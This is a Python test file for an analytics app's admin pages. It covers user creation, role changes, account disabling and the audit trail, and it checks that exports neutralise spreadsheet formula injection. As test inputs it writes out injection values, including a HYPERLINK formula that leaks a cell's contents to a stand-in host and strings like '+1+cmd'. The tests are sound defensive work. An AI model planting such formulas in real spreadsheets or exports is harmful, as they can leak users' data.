"""The admin's pages through AppTest: users (create, role, disable, reset) and the audit trail."""

from __future__ import annotations

import io

import openpyxl
import pytest

from etl.access import accounts
from etl.store.database import make_engine


@pytest.fixture
def admin(fresh_url, password_mode):
    engine = make_engine(fresh_url)
    account = accounts.create_user(engine, "boss", "admin", actor="test")[0]
    yield engine, account
    engine.dispose()


def test_admin_creates_an_agency_account_changes_and_disables_it(admin, signed_in):
    engine, boss = admin
    at = signed_in(boss, "users")
    at.text_input(key="new_username").input("sumbar").run()
    at.selectbox(key="new_role").set_value("agency").run()
    at.selectbox(key="new_agency").set_value("13").run()
    at.checkbox(key="new_children").check().run()
    at.button(key="create_user").click().run()
    assert not at.exception, [e.message for e in at.exception]
    assert "Kata sandi sekali pakai untuk sumbar" in at.success[0].value
    made = {a.username: a for a in accounts.list_users(engine)}["sumbar"]
    assert (made.role, made.agency, made.include_children) == ("agency", "13", True)

    at.selectbox(key="edit_user").set_value("sumbar").run()
    at.selectbox(key="edit_sumbar_role").set_value("analyst").run()
    at.button(key="set_role").click().run()
    at.button(key="toggle_user").click().run()
    changed = {a.username: a for a in accounts.list_users(engine)}["sumbar"]
    assert (changed.role, changed.agency, changed.disabled) == ("analyst", None, True)


def test_audit_lists_user_changes_and_downloads_formula_safe(admin, signed_in):
    engine, boss = admin
    accounts.create_user(engine, "evil", "analyst", actor="=HYPERLINK(1)")
    at = signed_in(boss, "audit", action="user_add")
    table = next(d.value for d in at.dataframe if "entity" in d.value.columns)
    assert set(table.action) == {"user_add"}
    assert "user:evil" in set(table.entity)
    assert "password" not in " ".join(table.after).lower().replace("must_change_password", "")
    assert at.query_params["action"] in ("user_add", ["user_add"])

    from ui.data import audit_file

    book = openpyxl.load_workbook(io.BytesIO(audit_file(table)))
    cells = [c.value for row in book["audit"].iter_rows() for c in row]
    assert "'=HYPERLINK(1)" in cells and "=HYPERLINK(1)" not in cells


FORMULA = '=HYPERLINK("http://x?leak="&A2,"klik")'


def test_audit_table_holds_no_formula_for_streamlits_own_csv_download(admin, signed_in):
    """Streamlit's toolbar "Download as CSV" writes the frame as it reached st.dataframe: a
    failed login under a formula-like name must arrive there escaped, like the app's exports."""
    engine, boss = admin
    with pytest.raises(accounts.AuthError):
        accounts.authenticate(engine, FORMULA, "wrong")
    for name in ("+1+cmd", "-2+3", "@SUM(A1)"):
        accounts.create_user(engine, f"u{len(name)}{name[0]}", "analyst", actor=name)
    at = signed_in(boss, "audit")
    table = next(d.value for d in at.dataframe if "entity" in d.value.columns)
    cells = [v for column in table.columns for v in table[column] if isinstance(v, str)]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


def test_every_table_of_the_app_goes_through_the_neutralising_helper():
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    direct = [
        str(path.relative_to(root))
        for folder in ("app_pages", "ui")
        for path in (root / folder).glob("*.py")
        if path.name != "tables.py"
        and any(f"st.{call}(" in path.read_text() for call in ("dataframe", "data_editor", "table"))
    ]
    direct += ["dashboard.py"] if "st.dataframe(" in (root / "dashboard.py").read_text() else []
    assert direct == [], "use ui.tables.show, which neutralises formula-like text"


def test_table_helper_neutralises_text_but_keeps_numbers():
    import pandas as pd

    from ui import tables

    frame = pd.DataFrame({"who": ["=1+1", "ok", None], "value": [-1.5, 2.0, 3.0]})
    safe = tables.safe(frame)
    assert list(safe.who[:2]) == ["'=1+1", "ok"] and pd.isna(safe.who[2])
    assert list(safe.value) == [-1.5, 2.0, 3.0]
    assert frame.who[0] == "=1+1"  # the caller's frame is not changed


def test_audit_details_read_as_text_not_json(admin, signed_in):
    """The audit page shows before/after as "key: value; …" (issue 17: raw JSON cells)."""
    from etl.report.audit_log import readable

    assert readable({"role": "analyst", "rows": {"inserted": 2}, "ok": True}) == (
        "role: analyst; rows: {inserted: 2}; ok: ya / yes"
    )
    assert readable(None) == "–"
    engine, boss = admin
    accounts.create_user(engine, "analis1", "analyst", actor="test")
    at = signed_in(boss, "audit", action="user_add")
    table = next(d.value for d in at.dataframe if "entity" in d.value.columns)
    cells = [v for column in ("before", "after") for v in table[column]]
    assert cells and not [c for c in cells if str(c).startswith(("{", "["))]
    assert any("role: analyst" in str(c) for c in cells)
